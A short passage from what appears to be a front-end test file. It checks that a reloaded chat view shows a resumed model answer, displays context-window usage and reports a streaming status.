    await waitFor(() => text(reloaded, 'model-name') === 'gpt-resumed', 'the model of the resumed answer')
    expect(text(reloaded, 'usage')).toContain('left in the context window')
    expect(lastStatus(reloaded)).toBe('streaming')
  })
})
